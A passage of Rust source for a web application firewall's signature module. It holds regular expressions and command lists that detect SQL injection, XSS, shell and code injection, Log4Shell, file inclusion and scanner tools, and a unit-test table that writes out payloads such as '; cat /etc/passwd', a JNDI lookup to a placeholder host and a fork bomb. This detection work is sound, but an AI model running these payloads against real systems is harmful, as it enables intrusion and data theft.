//! The attack signatures: whether one decoded value carries an attack of one class. SQL injection
//! and XSS are libinjection's (its Rust port, `libinjectionrs`) with a few regular expressions
//! for what its tokenizer leaves to others; the other classes are our own expressions.
//!
//! The attack knowledge behind the expressions comes from public sources: the OWASP Core Rule Set
//! (its rule families 913 scanners, 930 LFI, 932 RCE, 933 PHP, 934 generic, 941 XSS, 942 SQLi, 944
//! Java and their data lists, Apache-2.0), and the published descriptions of the attacks they
//! name (Shellshock CVE-2014-6271, Log4Shell CVE-2021-44228, Spring4Shell CVE-2022-22965). The
//! expressions are ours and compact; none is copied. All are compiled once into `RegexSet`s (the
//! `regex` crate matches in time linear in the input: no catastrophic backtracking) and matched
//! case-insensitively on bytes.

use std::borrow::Cow;
use std::sync::OnceLock;

use regex::bytes::{RegexSet, RegexSetBuilder};

use super::policy::Attack;

/// Schemes of stream wrappers that read local files or run code: both a file inclusion and, for
/// PHP's own, a code injection.
const WRAPPERS: &str = r"\b(?:php|file|phar|zlib|compress\.zlib|compress\.bzip2|expect|glob|ogg|rar|ssh2(?:\.\w+)?|zip)://";

const SQLI: &[&str] = &[
    r"\bunion(?:\s|/\*.*?\*/|\()+(?:all\s+|distinct\s+)?\(?\s*select\b",
    r"\b(?:sleep|benchmark|pg_sleep|dbms_pipe\.receive_message|extractvalue|updatexml|load_file)\s*\(",
    r"\bwaitfor\s+(?:delay|time)\s+'",
    r"\b(?:current_user|session_user|system_user|database|db_name|schema_name|user_name|version|connection_id|last_insert_id|row_count|found_rows)\s*\(\s*\)|\b(?:database|db_name|schema)\s*\($",
    r"\b(?:find_in_set|group_concat|concat_ws|char_length|sqlite_compileoption_(?:used|get)|sqlite_version|xmltype|utl_(?:http|inaddr)\.\w+|dbms_\w+|pg_(?:read_file|ls_dir|read_binary_file)|lo_import|json_(?:extract|keys|array|object)|make_set|export_set|substring_index|unhex|openrowset|opendatasource|is_srvrolemember|has_dbaccess)\s*\(",
    r"\bselect\s+(?:\*|count\s*\(|char\s*\(|concat|group_concat|load_file|@@|0x[0-9a-f]|null\b|\d+\s*,|[\w.]+\s*,\s*[\w.]+\s+from\b)",
    r"::\s*(?:jsonb?|int[248]?|bool|text|varchar|regclass)\b|'\s*(?:@>|<@|\?\||\?&)\s*'",
    r"\b(?:and|or|having|where)\b\s+(?:\d+|'[^']*')\s*(?:=|<>|!=|like)\s*(?:\d+|'[^']*')|\border\s+by\s+\d+\s*(?:--|#|/\*)",
    r"\b(?:information_schema|sysobjects|syscolumns|pg_catalog|sqlite_master|mysql\.user|msysaccessobjects)\b",
    r"@@(?:version|datadir|hostname|basedir)\b",
    r"\bxp_cmdshell\b|\bexec(?:ute)?\s+master\.",
    r"\binto\s+(?:out|dump)file\b",
    r";\s*(?:drop|truncate|alter)\s+(?:table|database|user)\b",
    r"['`]\s*(?:or|and|\|\||&&)\s+[\w'`]+\s*(?:=|<|>|like\b|is\b|in\b)",
    // SQL's own functions called (names that prose and other languages do not call), numeric
    // tautologies and contradictions, statements stacked after `;`, a column alias before FROM.
    r"\b(?:coalesce|concat|substring|substr|sysdate|nullif|ifnull|isnull|unhex|char|chr|ascii|cast|instr|lpad|rpad|md5|sha1|crc32)\\?\(",
    r"\b(?:and|or|xor|div)\s+\(?\s*\d+\s*(?:={1,3}|!=|<=>)\s*\(?",
    r";\s*(?:update\s+\S+\s+set|insert\s+into|delete\s+from|set\s+@@?\w|create\s+(?:table|database|user|function|procedure)|drop\s+(?:table|database|user))\b",
    r"\)\s*as\s+[\w`\x22]+\s+from\b|\bselect\s*\(\s*case\b",
];

const XSS: &[&str] = &[
    r"<\s*/?\s*(?:script|iframe|frame|object|embed|applet|svg|math|style|link|meta|base|form|isindex|xml|import|vmlframe)\b",
    r"<[a-z!/?][^>]*?[\s/]on[a-z]{3,}\s*=",
    r#"(?:^|["'\s;])on[a-z]{3,}\s*=\s*["'`]?[\w\s]*[(`=]"#,
    r"\b(?:java|vb|live)script\s*:|\bj\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t\s*:",
    r"<\s*(?:v|x|xss):\w+|<\s*(?:img|body|input|video|audio|details|marquee|a|div|button|select|textarea|keygen|source|track|image|animate|set)\b[^>]*[\s/](?:src|href|on\w+|style|formaction|background|dynsrc|lowsrc|xlink:href)\s*=",
    r"\bstring\s*\.\s*fromcharcode\s*\(|\b(?:eval|settimeout|setinterval|function)\s*\(\s*['\x22`]|\.innerhtml\s*=|\batob\s*\(",
    r"\bdata:\s*(?:text/html|image/svg\+xml|application/x?html)",
    r"\bsrcdoc\s*=|-moz-binding\s*:|\bexpression\s*\(|\bbehavior\s*:\s*url",
    r"\b(?:alert|prompt|confirm)\s*(?:\(|`)|\bdocument\s*\.\s*(?:cookie|domain|write)\b|\bwindow\s*\.\s*location\b",
    r"\[\]\[\(!\[\]|\(!\[\]\+\[\]\)",
];

/// Of [`XSS`], the expressions that need a tag of script or active content, or a tag with an
/// event handler: what the weaker-trusted fields of a binary body are matched with
/// ([`matches_strong`]).
const XSS_TAGS: usize = 2;

/// Unix commands whose names are also words of prose or of forms ("cat", "time", "more",
/// "python"): one counts only with what a command line puts after it (`{plain}` in [`CMDI`]).
const PLAIN_COMMANDS: &str = "cat|ls|ll|id|nc|bash|sh|dash|ping|dig|host|rm|ps|kill|sleep|find|head|tail|more|less|env|ip|ss|od|tar|touch|cp|mv|su|passwd|exec|eval|service|mount|dd|w|who|last|history|tee|tac|nl|sort|uniq|rev|cut|which|locate|alias|source|set|export|unset|time|timeout|nice|curl|python|perl|ruby|php|lua|node|docker|strings|date|top|column|fold|comm|flock|vi|vim|ex|trap|perf|echo|uptime|hostname|sed|ssh|ftp|telnet|pwd|sudo|awk|chef|ansible|git|make|wget|base64|base32|uname|lastlog|lastlogin|gzip";

/// Commands no prose uses (`{distinct}`): one counts after a separator, or alone at the start of
/// a value.
const DISTINCT_COMMANDS: &str = "whoami|ncat|netcat|zsh|ksh|csh|tcsh|python\\d[\\d.]*|nslookup|chmod|chown|chgrp|printf|pkill|scp|tftp|busybox|gawk|xargs|printenv|ifconfig|ipconfig|netstat|xxd|gunzip|mkfifo|crontab|useradd|usermod|adduser|nohup|socat|systemctl|journalctl|ansible-[a-z]+|kubectl|nmap|grep|egrep|zcat|bzcat|xzcat|zstdcat|getent|lsof|whereis|strace|ltrace|visudo|cscli|chef-[a-z]+|bsdtar|pip\\d|pipx|ssh-copy-id|ssh-keygen|cpulimit|aptitude|apt-get|htop|gcc[\\d.]*|c89|c99|irb|gdb|rmt(?:-[a-z]+)?|aa-[a-z]+|uconv|iptables|tcpdump|dmesg|sysctl|lsmod|insmod|modprobe";

/// Commands that run the command after them (`time sh -c id`).
const COMMAND_WRAPPERS: &str = "time|nohup|strace|ltrace|sudo|env|nice|timeout|xargs|exec|command|builtin|cpulimit(?:\\s+-\\w\\s+\\S+)*|flock(?:\\s+-\\w)?\\s+\\S+";

/// Matched on [`command_line`]'s rewriting, where the quoting and escaping tricks of shells are
/// already undone. `{command}` is a distinct command, or a plain one followed by what a command
/// line puts after a command (an option, a path, a variable, a number, a separator, the end).
const CMDI: &[&str] = &[
    // A command after a separator or in a substitution, optionally in a subshell or by its path.
    r"(?:[;&|\n`]|\$\(|[<>]\()\s*\(?\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?{command}",
    // At the very start of a value (a value starting with "sort" or "cat food" is too often just
    // words): any command with an option or a path argument, a distinct one with any argument
    // (alone it may be a value of an enumeration, `format=gzip`), maybe run by a wrapper
    // (`time sh -c id`); the few commands that are only ever run, alone.
    r"^\s*(?:json\.)?(?:(?:{wrappers})\s+(?:-\S+\s+)*)?(?:(?:{plain}|{distinct})\s+(?:-{1,2}[a-z]|/[a-z]|\.\.?/|~/)|(?:{distinct})(?:\s+\S|\s*[;&|<>]))|^\s*(?:whoami|ifconfig|ipconfig|visudo|printenv)\s*$",
    // Glob classes standing for one letter: `pa[s]swd`, `/[?]tc/`, `/bi[n]/`, `/etc/[!q]asswd`.
    r"\w\[[\w?*]\]\w|/\[[\w?*]\]|/\w*\[[!^]?[\w/?*-]+\][\w/]",
    // Substitutions and expansions: `$(..)`, `$((..))`, `$[2+2]`, `${x#..}`, `<(..)`, `${IFS}`.
    r"\$\(\s*[a-z/.(]|\$\{?ifs\b|\$\{!?\w*(?:[#%^,/@]|:[-=+?\d\s])[^}]*\}|\$\[\]|\$\[[^\]]*[-+*/%][^\]]*\]|(?:^|\W)[<>]\(\s*[\w/$]|\$\{?shell\}?\s+-c\b",
    r"(?:^|/)(?:usr/)?s?bin/[a-z]+\b",
    r"/[?*][?*][?*]/[a-z?*]+",
    r"(?:>|<)\s*/dev/(?:tcp|udp)/|\bmkfifo\b|\b(?:nc|ncat|netcat)\s+(?:-[a-z]*\s+)*[\w.]+\s+\d+",
    // Windows: cmd, PowerShell and its aliases, FOR and IF, the commands of an intrusion.
    r"\bcmd(?:\.exe)?\s+/[ckr]\b|\bpowershell(?:\.exe)?\s+(?:-|[a-z]:\\)|\b(?:invoke-expression|invoke-webrequest|downloadstring|downloadfile|start-process|new-object\s+net\.webclient|get-childitem|get-content|set-executionpolicy)\b",
    r"(?:^|[;&|(])\s*(?:if\s+(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion|/i)\b|for\s+/[dflr]\b|for\s+(?:/[dflr]\s+(?:\S+\s+)?)?%%?\S+\s+in\s*\()",
    r"(?:^|[;&|(])\s*if\s+(?:/i\s+)?(?:not\s+)?(?:.*?(?:\b(?:equ|neq|lss|leq|gtr|geq)\b|==).*?\b(?:echo|goto|exit|call|set|del|start|cmd|copy|move|type|do)\b|\S*%\S*\s*==)",
    r"(?:^|[;&|])\s*(?:net\s+(?:user|localgroup|view)|tasklist|systeminfo|ipconfig|certutil|bitsadmin|wmic|reg\s+(?:query|add)|type\s+[a-z]:)\b|[;&|]\s*(?:regedit|mshta|bcdboot|bcdedit|rundll32|regsvr32|cscript|wscript|schtasks|vssadmin|wevtutil|taskkill|netsh|iwr|iex|iwmi|icm)\b",
    // Fork bombs: a function whose body pipes or backgrounds a call (`f(){ f|f& };f`).
    r"[\w.:]+\s*\(\s*\)\s*\{\s*[\w.:]+(?:\s*\(\s*\))?\s*[|&](?:[^|&]|$)",
    // Brace expansion (`{cat,/etc/passwd}`, its comma already a space).
    r"\{(?:cat|ls|id|echo|wget|curl|nc|bash|sh|uname|whoami)\s+[^}]*\}",
    // History and editor escapes (`!!`, `!-1`, vi's `:!whoami`).
    r"(?:^|[;&|\s:])!(?:!|-?\d+|\$|#|\?|(?:{plain}|{distinct})\b)",
    r"\bsystem\s+(?:nc|bash|sh|curl|wget)\b|^\s*\.(?:system|shell)\s|;\s*\.\s*(?:sh|shell|system|databases|tables|dump|import|read|output|once|load)\b",
    // Aliases, variables run as commands (`;$a cat`, `$c $a$b`), `cd` chains, `~+` / `~-`.
    r"\balias\s+(?:[+-]\w+\s+)*[^\s=]+=",
    r"(?:[;&|\n`]|\$\()\s*\$\{?[a-z_]\w*\}?\s+[\w-]|\$\{?[a-z_]\w*\}?\$\{?[a-z_]\w*",
    r"(?:^|[;&|])\s*cd\s+\S+\s*[;&|]|(?:^|[\s;&|])~[+-]\d*(?:$|[\s/;&|])",
];

/// Matched on the value itself, before [`command_line`] undoes what these look for: words cut by
/// empty substitutions or special parameters (`pi``ng`, `c$@at`, `c$!at`), brace expansion with
/// its commas (`{l,-lh}s`, `{,ifconfig}`), a command escaped from its alias (`\ls`).
const CMDI_RAW: &[&str] = &[
    r#"\w(?:``|\$\(\)|[<>]\(\))|\w\$[@*!?_$-]\w|\w(?:""|\$\$)\w"#,
    r"\{[\w-]*[a-z_-][\w-]*,[\w,-]*\}|\{,[\w,-]*[a-z_][\w,-]*\}",
    r"^\s*\\(?:{plain}|{distinct})(?:\s|$)",
];

const CODE_INJECTION: &[&str] = &[
    // PHP: tags, high-risk functions (called), super-globals, ini directives, serialised objects,
    // variable functions.
    r"<\?(?:php\b|=|\s|$)|\?>\s*$|\[\s*\?php\b",
    r"\b(?:eval|assert|shell_exec|passthru|proc_open|popen|pcntl_exec|base64_decode|gzinflate|gzuncompress|str_rot13|phpinfo|create_function|call_user_func(?:_array)?|file_get_contents|file_put_contents|fsockopen|unserialize|highlight_file|show_source|move_uploaded_file|preg_replace|array_map|usort|fwrite|fputs|var_dump|print_r|posix_\w+|ini_set|ini_get|getenv|putenv|set_time_limit|stream_get_contents|curl_exec|dl)\s*(?:/\*.*?\*/\s*)*\(",
    r#"\b(?:system|exec|include|include_once|require|require_once|readfile|fopen|chmod|unlink|mail|echo|print)\s*(?:\(\s*)?['"$`]"#,
    r"\$_(?:get|post|cookie|request|server|files|env|session)\b|\$globals\b|\$http_\w+_vars\b|\$php_self\b",
    r"\b(?:allow_url_include|allow_url_fopen|auto_prepend_file|auto_append_file|disable_functions|open_basedir|safe_mode|register_globals|opcache\.[a-z_]+|session\.[a-z_]+|zend\.[a-z_]+|suhosin\.[a-z_.]+)\s*=",
    r#"\b[oc]:\d+:"[\w\\]+":\d+:\{"#,
    r"\$+[a-z_][\w]*\s*(?:\[[^\]]*\]\s*)*\(|::\$\w+\s*\(|\$\{\s*[a-z_]\w*\s*\}\s*\(",
    // JavaScript and Node.js.
    r"\brequire\s*\(\s*['`]\s*child_process|\bchild_process\b|\bprocess\s*\.\s*(?:mainmodule|binding|env|exit|kill|dlopen)\b",
    r"\b__proto__\b|\bconstructor\s*(?:\.\s*prototype|\[\s*['`]prototype|\s*\.\s*constructor)|\bfunction\s*\(\s*\)\s*\{.*\breturn\b|\bnew\s+function\s*\(",
    // Java: dangerous classes, process spawning, expression languages, Log4Shell, serialisation.
    r"\bjava\.(?:io|lang|net|nio|beans|rmi|util\.prefs)\.\w|\bjavax\.(?:script|naming|xml|management)\b|\bsun\.(?:reflect|misc)\b|\borg\.apache\.(?:commons\.collections|xalan|bcel|tomcat|struts2?)\b|\borg\.(?:xml|omg|jdom2|dom4j)\.\w|\bcom\.(?:sun|opensymphony)\.\w|\bjavassist\b|\bfreemarker\.(?:template|ext|core)\b|\b(?:declaredclass|propertyutilsbean|ognlutil|ognlcontext)\b|\w(?:transformer|comparator)\b",
    r"\b(?:runtime\s*\.\s*getruntime|getruntime\s*\(\s*\)\s*\.\s*exec|processbuilder|invokertransformer|chainedtransformer|instantiatetransformer|classloader|getclass\s*\(|forname\s*\()",
    r"\$\{[^}]{0,40}(?:jndi|lower|upper|env|sys|date|ctx|main|::-)[:}]|\$\{\s*jndi\b|\bjndi\s*:\s*(?:ldap|rmi|dns|iiop|corba|nds|nis)",
    r"%\{\s*[(#@]|#_?memberaccess|@java\.lang|\bclass\.module\.classloader\b|#context\[|\(#\w+\s*=",
    // Java serialisation's magic bytes, raw or in base64 at its three alignments.
    r"(?-i:rO0AB|KztAAU|Cs7QAF|\xac\xed\x00\x05)|\baced0005",
    // Server-side templates, Ruby, Perl, Python.
    r"\{\{.*?(?:__class__|__mro__|__globals__|__builtins__|__import__|config\.|self\.|request\.|lipsum|cycler|joiner|constructor|\d\s*\*\s*\d).*?\}\}|\{%\s*(?:import|include|set|for)\b|\$\{\s*\d+\s*\*\s*\d+\s*\}|#\{\s*\d+\s*\*\s*\d+\s*\}|<%=?\s*[\w@$]",
    r"\b(?:kernel\s*\.\s*(?:exec|system|open|spawn|eval)|io\s*\.\s*popen|open3\s*\.|%x\{|syscall\s*\(|instance_eval|class_eval)\b",
    r"@\{\s*\[|\bqx\s*[\{(/]|\buse\s+(?:posix|socket|io::)|\bopen\s*\(\s*\w+\s*,\s*['\x22][|<>]",
    r"\b(?:__import__|__builtins__|__globals__|__subclasses__|__getattribute__)\b|\bos\s*\.\s*(?:system|popen|exec\w*)\s*\(|\bsubprocess\s*\.",
];

const LFI: &[&str] = &[
    r"(?:^|[/\\=\s'\x22])\.{2,}(?:[/\\;]|$)|\.\.\xc0\xaf|\.\.\xc1\x9c",
    r"(?:^|[^\w.-])/?etc/(?:passwd|master\.passwd|shadow|group|gshadow|hosts|issue|hostname|crontab|sudoers|fstab|motd|os-release|lsb-release|profile|bashrc|environment|resolv\.conf|security|init\.d|httpd|apache2?|nginx|mysql|ssh|ssl|php\d?|redhat-release|debian_version|inittab|ld\.so|pam\.d|x11|apt|network|sysconfig|cron)",
    r"/proc/(?:self|\d+|thread-self)/|/proc/(?:version|cmdline|environ|mounts|net/)",
    r"/var/(?:log|lib|mail|spool|run|www)/|/(?:root|home/\w+)/\.|/usr/local/(?:apps|etc|apache|nginx)/",
    r"\.(?:ssh/(?:id_\w+|authorized_keys|known_hosts)|bash_history|bash_profile|bashrc|zsh_history|mysql_history|psql_history|htpasswd|htaccess|git/(?:config|head)|svn/entries|aws/credentials|docker/config\.json|kube/config|netrc|pgpass)\b",
    r"(?:^|[/\\:])(?:windows|winnt)[/\\](?:system32|system\.ini|win\.ini|repair|debug|panther)|\b(?:boot|win|system)\.ini\b|\bweb\.config\b|\bwp-config\.php\b|\bc:[/\\](?:windows|inetpub|boot)|\bc:[/\\]users[/\\][^/\\]+[/\\](?:appdata|ntuser)",
];

/// Scanners and attack tools as they name themselves in `User-Agent` (and other headers).
const TOOLS: &[&str] = &[
    r"\b(?:sqlmap|nikto|nmap|masscan|zgrab|nuclei|wpscan|acunetix|netsparker|nessus|openvas|w3af|arachni|dirbuster|gobuster|feroxbuster|wfuzz|ffuf|havij|commix|skipfish|whatweb|wapiti|jorgee|zmeu|xsstrike|xsser|sqlninja|joomscan|droopescan|appscan|webinspect|fimap|dotdotpwn|tplmap|sstimap|ghauri|jsql|paros|bbqsql|hydra|metasploit|morfeus|libwhisker|webshag|n-stalker|qualysguard|burpcollaborator|interact\.sh|oast\.\w+|netlab360|sysscan|cmsmap|vega/|l9explore|l9tcpid|dirb|nessus|brutus|grabber|uniscan|vooki|wprecon|whatwaf|bfac|crimscanner|fuzz\s?faster|bewica|betabot|hexometer|securityagent|sitelockspider|webbandit|w3af\.org|ironwasp|jbrofuzz|struts-pwn|shortscan|kadimus|lfisuite|lfimap|panoptic|graphw00f|graphql-cop|tinja|nettacker|wpprobe|tsunamisecurityscanner)\b",
    r"^mozilla/5\.g\b|^mozlila/|^mozilla/4\.0 \(hydra\)",
];

/// Header names only tools send.
const TOOL_HEADERS: &[&str] = &[
    "acunetix-product",
    "acunetix-scanning-agreement",
    "acunetix-user-agreement",
    "acunetix-aspect",
    "x-scanner",
    "x-scan-memo",
    "x-wipp",
    "x-request-memo",
    "bugbounty",
];

const SHELLSHOCK: &[&str] = &[r"^\s*\(\s*\)\s*\{"];

struct Sets {
    sqli: RegexSet,
    xss: RegexSet,
    xss_tags: RegexSet,
    cmdi_strong: RegexSet,
    cmdi: RegexSet,
    cmdi_raw: RegexSet,
    code: RegexSet,
    lfi: RegexSet,
    tools: RegexSet,
    shellshock: RegexSet,
}

fn sets() -> &'static Sets {
    static SETS: OnceLock<Sets> = OnceLock::new();
    SETS.get_or_init(|| {
        fn set<S: AsRef<str>>(patterns: &[S]) -> RegexSet {
            RegexSetBuilder::new(patterns)
                .case_insensitive(true)
                .unicode(false)
                .dot_matches_new_line(true)
                .build()
                // The expressions are constants: a unit test compiles them all.
                .unwrap_or_else(|e| panic!("a WAAS signature does not compile: {e}"))
        }
        let with_wrappers = |patterns: &[&str]| {
            let mut all = patterns.to_vec();
            all.push(WRAPPERS);
            set(&all)
        };
        Sets {
            sqli: set(SQLI),
            xss: set(XSS),
            xss_tags: set(&XSS[..XSS_TAGS]),
            cmdi_strong: set(&[command_pattern(CMDI[0])]),
            cmdi: set(&CMDI.iter().map(|p| command_pattern(p)).collect::<Vec<_>>()),
            cmdi_raw: set(&CMDI_RAW
                .iter()
                .map(|p| command_pattern(p))
                .collect::<Vec<_>>()),
            code: with_wrappers(CODE_INJECTION),
            lfi: with_wrappers(LFI),
            tools: set(TOOLS),
            shellshock: set(SHELLSHOCK),
        }
    })
}

/// A command signature with its placeholders filled in: `{plain}`, `{distinct}` and `{wrappers}`
/// are the lists above, `{command}` a command as a command line shows it.
fn command_pattern(pattern: &str) -> String {
    let command = format!(
        r"(?:(?:{DISTINCT_COMMANDS})\b|(?:{PLAIN_COMMANDS})(?:\s+(?:-|/|\.{{1,2}}/|~|\$|\d)|\s*(?:$|[;&|<>`)])))"
    );
    pattern
        .replace("{command}", &command)
        .replace("{plain}", PLAIN_COMMANDS)
        .replace("{distinct}", DISTINCT_COMMANDS)
        .replace("{wrappers}", COMMAND_WRAPPERS)
}

/// Compiles the signatures now rather than at the first request.
pub fn warm_up() {
    sets();
}

/// Whether `value` carries `attack` (one of the signature classes; the others never match).
pub fn matches(attack: Attack, value: &[u8]) -> bool {
    let sets = sets();
    match attack {
        Attack::Sqli => {
            libinjectionrs::detect_sqli(value).is_injection() || sets.sqli.is_match(value)
        }
        Attack::Xss => {
            (may_be_markup(value) && libinjectionrs::detect_xss(value).is_injection())
                || (holds(value, XSS_BYTES) && sets.xss.is_match(value))
        }
        Attack::Cmdi => sets.cmdi.is_match(&command_line(value)) || sets.cmdi_raw.is_match(value),
        Attack::CodeInjection => sets.code.is_match(value),
        Attack::Lfi => holds(value, LFI_BYTES) && sets.lfi.is_match(value),
        Attack::Shellshock => sets.shellshock.is_match(value),
        Attack::AttackTools => sets.tools.is_match(value),
        _ => false,
    }
}

/// The fewest tokens in libinjection's fingerprint of an SQL injection for [`matches_strong`]:
/// `' OR 1=1--` is `s&1c`, four; a chance flag on binary bytes is mostly one or two (a bare
/// string and a comment, `sc`).
const STRONG_SQLI_TOKENS: usize = 3;

/// Whether `value` carries `attack` by a strong signature only: for the fields a lenient form
/// parser reads out of a binary body, where every value is the bytes up to the next `&` and most
/// of them are chance (docs/waas.md, "Binary bodies"). SQL injection: libinjection's verdict with
/// a fingerprint of at least [`STRONG_SQLI_TOKENS`] tokens; XSS: a tag of script or active
/// content, or a tag with an event handler; command injection: a command after a separator or in
/// a substitution; Shellshock: as anywhere. The other classes' signatures (history escapes, globs,
/// paths, code fragments) match binary bytes by chance too often and are not run on such fields.
pub fn matches_strong(attack: Attack, value: &[u8]) -> bool {
    let sets = sets();
    match attack {
        Attack::Sqli => {
            let found = libinjectionrs::detect_sqli(value);
            found.is_injection()
                && found
                    .fingerprint
                    .is_some_and(|f| f.as_str().len() >= STRONG_SQLI_TOKENS)
        }
        Attack::Xss => sets.xss_tags.is_match(value),
        Attack::Cmdi => sets.cmdi_strong.is_match(&command_line(value)),
        Attack::Shellshock => sets.shellshock.is_match(value),
        _ => false,
    }
}

/// A necessary condition for libinjection's XSS detection, checked first as it costs a `memchr`
/// where libinjection runs its HTML5 tokenizer five times (once per context) over the value:
/// what it flags is a tag, a comment or a doctype (each opened by `<`), or an attribute's value
/// (entered only after a `=`; the value a context starts in is never flagged). A value with
/// neither byte cannot be flagged; `xss_prefilter_is_necessary` checks it on the corpora.
fn may_be_markup(value: &[u8]) -> bool {
    memchr::memchr2(b'<', b'=', value).is_some()
}

/// Whether a header of this name is one only attack tools send.
pub fn tool_header(name: &str) -> bool {
    TOOL_HEADERS.iter().any(|t| name.eq_ignore_ascii_case(t))
}

/// Whether `value` holds one of `bytes`: `memchr`'s vectorised search, three bytes a pass (a
/// byte-by-byte loop cost a tenth of the inspection of a 64 KiB form).
fn holds(value: &[u8], bytes: &[u8]) -> bool {
    bytes.chunks(3).any(|c| match *c {
        [a, b, c] => memchr::memchr3(a, b, c, value).is_some(),
        [a, b] => memchr::memchr2(a, b, value).is_some(),
        [a] => memchr::memchr(a, value).is_some(),
        _ => false,
    })
}

/// The bytes [`command_line`] rewrites.
const REWRITTEN: &[u8] = b"\\'\"^$,";

/// Every expression of [`XSS`] needs one of these bytes: a tag's `<`, an attribute's `=`, a
/// scheme's or a style's `:`, a call's `(` or a template's backquote, a property's `.`, JSFuck's
/// `[`. A value without any (plain words and numbers) is not scanned by the set;
/// `prefilters_are_necessary` checks it.
const XSS_BYTES: &[u8] = b"<=:(`.[";

/// Every expression of [`LFI`] (and [`WRAPPERS`]) needs one of these bytes: a traversal's or a
/// file name's `.`, a path's `/` or `\`.
const LFI_BYTES: &[u8] = b"./\\";

/// `value` as a shell would run it, for the command signatures: the characters shells drop from
/// a word (`\`, quotes, `^` of cmd.exe) deleted, the empty expansions (`$@`, `$*`, `${x:0:0}`-like
/// tricks are left to the signatures) deleted, `${IFS}` and `,` made spaces. A value with none
/// of those bytes (most text) is its own command line: borrowed, not copied.
fn command_line(value: &[u8]) -> Cow<'_, [u8]> {
    if !holds(value, REWRITTEN) {
        return Cow::Borrowed(value);
    }
    let mut out = Vec::with_capacity(value.len());
    let mut i = 0;
    while i < value.len() {
        match value[i] {
            b'\\' | b'\'' | b'"' | b'^' => {}
            b'$' if matches!(value.get(i + 1), Some(b'@' | b'*')) => i += 1,
            b',' => out.push(b' '),
            b'$' if value[i..].len() >= 6 && value[i..i + 6].eq_ignore_ascii_case(b"${ifs}") => {
                out.push(b' ');
                i += 5;
            }
            byte => out.push(byte),
        }
        i += 1;
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_signature_compiles() {
        warm_up();
    }

    /// Table: (class, value, expected). Each class has attacks and near-miss benign values.
    #[test]
    fn signatures() {
        use Attack::*;
        let table: &[(Attack, &str, bool)] = &[
            (Sqli, "1' OR '1'='1", true),
            (Sqli, "1 union select password from users", true),
            (Sqli, "1 UNION/**/ALL/**/SELECT 1", true),
            (Sqli, "1 and sleep(5)", true),
            (Sqli, "'; DROP TABLE users; --", true),
            (Sqli, "pg_catalog", true),
            (Sqli, "\" union select\n", true),
            (Sqli, "O'Brien", false),
            (Sqli, "the union voted to select a new chair", false),
            (Sqli, "Select your size or union jack print", false),
            (Sqli, "COALESCE(", true),
            (Sqli, "OR (7319=8742)", true),
            (Sqli, "x;update users set admin=1", true),
            (Sqli, ") as cc FROM", true),
            (
                Sqli,
                "The cast (in order of appearance) and a char (or two)",
                false,
            ),
            (Sqli, "update billing address; or 2 more", false),
            (Xss, "<script>alert(1)</script>", true),
            (Xss, "<img src=x onerror=alert(1)>", true),
            (Xss, "\" onmouseover=\"alert(1)", true),
            (Xss, "javascript:alert(1)", true),
            (Xss, "Fish & chips <3", false),
            (Xss, "onion=3", false),
            (Cmdi, "; cat /etc/passwd", true),
            (Cmdi, "x | id", true),
            (Cmdi, "$(whoami)", true),
            (Cmdi, ";c\\at${IFS}/etc/passwd", true),
            (Cmdi, "`id`", true),
            (Cmdi, "cmd.exe /c dir", true),
            (Cmdi, ":(){ :|:& };:", true),
            (Cmdi, "Tom & Jerry; the cat sat", false),
            (Cmdi, "rock, paper, scissors", false),
            // Distinct commands alone, wrappers, evasions, Windows, expansions.
            (Cmdi, "ansible-config dump", true),
            (Cmdi, "time sh -c whoami", true),
            (Cmdi, "strace ifconfig", true),
            (Cmdi, "x; visudo", true),
            (Cmdi, "pi``ng 127.0.0.1", true),
            (Cmdi, "c$!at /etc/passwd", true),
            (Cmdi, "{l,-lh}s", true),
            (Cmdi, "\\ls", true),
            (Cmdi, "alias a=b", true),
            (Cmdi, "/bi[n]/bash", true),
            (Cmdi, "$[2+2]", true),
            (Cmdi, ">(tee log)", true),
            (Cmdi, "garb=adduse[r];$garb pizza", true),
            (Cmdi, "f(){ f|f& };f", true),
            (Cmdi, "code=;vim -c:!pwd", true),
            (Cmdi, "1;.shell whoami", true),
            (Cmdi, "~+", true),
            (Cmdi, "IF %ERRORLEVEL% EQU 2 goto end", true),
            (Cmdi, "& FOR %- IN (a,b,c) DO cmd", true),
            (Cmdi, "; mshta http://example.com", true),
            (Cmdi, "var=x\"|bcdboot %SYSTEMROOT%", true),
            // Prose and code that use command words, separators and brackets.
            (Cmdi, "hello; time he came", false),
            (Cmdi, "a hero; more than", false),
            (Cmdi, "Echo Dot (3rd gen)", false),
            (Cmdi, "sudo make me a sandwich", false),
            (Cmdi, "python for kids", false),
            (Cmdi, "time warner", false),
            (Cmdi, "who | what | where", false),
            (Cmdi, "`foo`;`bar`;`def`", false),
            (Cmdi, "red;$5 each", false),
            (Cmdi, "page[1] and a[b/1234*c]", false),
            (Cmdi, "\\d{1,3}", false),
            (Cmdi, "{size, colour} both wrong", false),
            (
                Cmdi,
                "for (let i = 0; i < n; i++) { total += p[i]; }",
                false,
            ),
            (Cmdi, "myfunction(){ echo hello }", false),
            (Cmdi, "your alias is not = to your name", false),
            (Cmdi, "if x == y then z, says the manual", false),
            (Cmdi, "CD / DVD drive", false),
            (CodeInjection, "<?php system($_GET['c']); ?>", true),
            (CodeInjection, "eval(base64_decode('aWQ='))", true),
            (CodeInjection, "${jndi:ldap://x.example/a}", true),
            (CodeInjection, "java.lang.Runtime", true),
            (CodeInjection, "{{7*7}}", true),
            (CodeInjection, "require('child_process').exec('id')", true),
            (CodeInjection, "O:8:\"stdClass\":0:{}", true),
            (CodeInjection, "php://filter/resource=index", true),
            (CodeInjection, "It costs $5 (five dollars)", false),
            (CodeInjection, "the operating system (Linux)", false),
            (Lfi, "../../../etc/passwd", true),
            (Lfi, "..\\..\\windows\\win.ini", true),
            (Lfi, "/proc/self/environ", true),
            (Lfi, "file:///etc/hosts", true),
            (Lfi, "to be continued...", false),
            (Lfi, "/api/v1/orders/42", false),
            (Shellshock, "() { :; }; /bin/bash -c id", true),
            (Shellshock, "see function () { }", false),
            (
                AttackTools,
                "sqlmap/1.7.2#stable (https://sqlmap.org)",
                true,
            ),
            (AttackTools, "Mozilla/5.00 (Nikto/2.1.6)", true),
            (
                AttackTools,
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
                false,
            ),
        ];
        for (attack, value, want) in table {
            assert_eq!(
                matches(*attack, value.as_bytes()),
                *want,
